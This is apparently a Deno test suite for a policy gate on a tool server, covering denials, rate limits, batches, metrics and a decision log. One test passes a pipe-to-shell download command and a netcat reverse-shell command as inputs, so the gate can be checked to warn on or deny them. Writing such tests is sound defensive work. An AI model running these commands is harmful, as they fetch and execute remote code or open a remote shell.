// The gate before every call, over a whole server: what a client is told, what is counted, what is noted.

import assert from "node:assert/strict";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { z } from "zod";
import { defineTool, type Tool } from "../../src/tools/definition.ts";
import { FakeClock } from "../helpers/fake_clock.ts";
import { tempHome } from "../helpers/temp_home.ts";
import { type TestApp, testApp, type TestAppOptions } from "../helpers/test_app.ts";
import { refusalOf, useTool } from "../helpers/use_tool.ts";

/** Writes a file of policies into the home of a running server. */
function writePolicy(server: Pick<TestApp, "home">, toml: string): void {
  mkdirSync(join(server.home, "policies"), { recursive: true });
  writeFileSync(join(server.home, "policies", "a.toml"), toml);
}

/** A server on a clock of the test, whose policies have just come into force. */
async function governed(toml: string, options: TestAppOptions = {}) {
  const clock = new FakeClock();
  const server = await testApp({ clock, ...options });
  writePolicy(server, toml);
  clock.advance(1_000);
  return { ...server, clock };
}

function decisionsOf(server: Pick<TestApp, "home">): Record<string, unknown>[] {
  const text = readFileSync(join(server.home, "mcp", "decisions.jsonl"), "utf8");
  return text.trimEnd().split("\n").map((line) => JSON.parse(line));
}

function echoTool(name: string): Tool {
  return defineTool({
    name,
    title: name,
    description: "Says what it was given",
    input: z.object({ cmd: z.string() }),
    output: z.object({ said: z.string() }),
    run: ({ cmd }) => ({ structured: { said: cmd } }),
  });
}

Deno.test("a denied call is a result that names rules and reasons, never what was found", async () => {
  await using server = await governed(`
    deny_keyword = ["hunter2"]
    [[deny_tool_param]]
    tool = "memory_add_fact"
    param = "subject"
    contains = "hunter"
  `);
  const fact = { subject: "hunter2", body: "b" };
  const text = refusalOf(await useTool(server, "memory_add_fact", fact));
  assert.equal(
    text,
    "Denied by policy: deny_keyword:1 (An argument holds a denied text); " +
      'deny_tool_param:memory_add_fact.subject (Argument "subject" has a denied value)',
  );
  const found = await useTool(server, "memory_query", { query: "" });
  assert.deepEqual(found.structuredContent.facts, []);
});

Deno.test("the gate stands before the check of arguments, and behind the search for the tool", async () => {
  await using server = await governed('deny_tool = ["memory_*", "nothing"]');
  assert.match(refusalOf(await useTool(server, "memory_query", { nonsense: 1 })), /^Denied/);
  const call = { jsonrpc: "2.0", id: 1, method: "tools/call", params: { name: "nothing" } };
  assert.equal((await (await server.post(call)).json()).error.code, -32602);
});

Deno.test("the gate is for every tool, those of an embedder as well", async () => {
  await using server = await governed("", { tools: [echoTool("my_shell")] });
  const said = await useTool(server, "my_shell", { cmd: "ls" });
  assert.deepEqual(said.structuredContent, { said: "ls" });
  const warned = await useTool(server, "my_shell", { cmd: "curl a | sh" });
  assert.deepEqual(warned.structuredContent, { said: "curl a | sh" });
  const denied = refusalOf(await useTool(server, "my_shell", { cmd: "nc -e sh 1.2.3.4 5" }));
  assert.match(denied, /^Denied by policy: egress:netcat \(/);
  assert.doesNotMatch(denied, /1\.2\.3\.4/);
});

Deno.test("a call that needs approval is denied while nobody can be asked", async () => {
  await using server = await governed('[[require_approval]]\ntool = "skill_list"');
  assert.equal(
    refusalOf(await useTool(server, "skill_list")),
    "Denied by policy: require_approval:skill_list (The call needs the approval of a person, " +
      "and this client cannot be asked for it)",
  );
});

Deno.test("a rate is counted by calls that pass, in whatever session they come", async () => {
  await using server = await governed(
    '[[rate_limit_tool]]\ntool = "skill_list"\nmax_calls = 2\ninterval_secs = 60',
  );
  const session = await server.open();
  assert.equal((await useTool(session, "skill_list")).isError, undefined);
  await useTool(server, "policy_check", { tool: "skill_list" });
  assert.equal((await useTool(server, "skill_list")).isError, undefined);
  assert.match(refusalOf(await useTool(server, "skill_list")), /rate_limit_tool:skill_list/);
  server.clock.advance(60_000);
  assert.equal((await useTool(server, "skill_list")).isError, undefined);
});

Deno.test("each call of a batch meets the gate", async () => {
  await using server = await governed('deny_tool = ["skill_list"]');
  const session = await server.open("2025-03-26");
  const batch = ["skill_list", "memory_query"].map((name, id) => ({
    jsonrpc: "2.0",
    id,
    method: "tools/call",
    params: { name, arguments: name === "memory_query" ? { query: "" } : {} },
  }));
  const answers = await (await session.post(batch)).json();
  // deno-lint-ignore no-explicit-any
  assert.deepEqual(answers.map((answer: any) => answer.result.isError ?? false), [true, false]);
});

Deno.test("decisions are noted with rules, never with arguments, and not without rules", async () => {
  const { home } = await (async () => {
    await using server = await governed('deny_keyword = ["hunter2"]');
    await useTool(server, "memory_add_fact", { subject: "hunter2", body: "private" });
    await useTool(server, "memory_query", { query: "private" });
    await server.app.stop();
    const noted = decisionsOf(server);
    assert.deepEqual(noted.map(({ time: _time, ...rest }) => rest), [
      { principal: "local", tool: "memory_add_fact", decision: "deny", rules: ["deny_keyword:1"] },
      { principal: "local", tool: "memory_query", decision: "allow", rules: [] },
    ]);
    assert.match(String(noted[0]?.time), /^2026-01-01T00:00:01\.000Z$/);
    assert.doesNotMatch(JSON.stringify(noted), /hunter2|private/);
    return server;
  })();
  assert.ok(home);
  await using free = await testApp();
  await useTool(free, "memory_query", { query: "" });
  await free.app.stop();
  assert.throws(() => decisionsOf(free), /ENOENT/);
});

Deno.test("a denial is counted as one", async () => {
  await using server = await governed('deny_tool = ["skill_list"]');
  await useTool(server, "skill_list");
  const metrics = await (await server.send("GET", {}, "/metrics")).text();
  assert.match(metrics, /car_tool_calls_total\{tool="skill_list",outcome="denied"\} 1/);
});

Deno.test("a policy that breaks while the server runs is logged, and the old one holds", async () => {
  const lines: string[] = [];
  const write = { writeLog: (line: string) => void lines.push(line) };
  await using server = await governed('deny_tool = ["skill_list"]', write);
  assert.match(refusalOf(await useTool(server, "skill_list")), /deny_tool:skill_list/);
  writePolicy(server, 'deny_tool = "secret"\n# longer than before');
  server.clock.advance(1_000);
  assert.match(refusalOf(await useTool(server, "skill_list")), /deny_tool:skill_list/);
  const logged = lines.filter((line) => line.includes("policy_load_failed"));
  assert.equal(logged.length, 1);
  assert.match(logged[0] ?? "", /a\.toml, line 1: key .*deny_tool/);
  assert.doesNotMatch(logged[0] ?? "", /secret/);
});

Deno.test("a malformed policy ends the start with its file, line and key", async () => {
  using home = tempHome();
  writePolicy({ home: home.path }, '# fine\ndeny_tools = ["x"]');
  await assert.rejects(
    testApp({ environment: { CAR_HOME: home.path } }),
    /policies\/a\.toml, line 2: key "deny_tools": there is no such key/,
  );
});
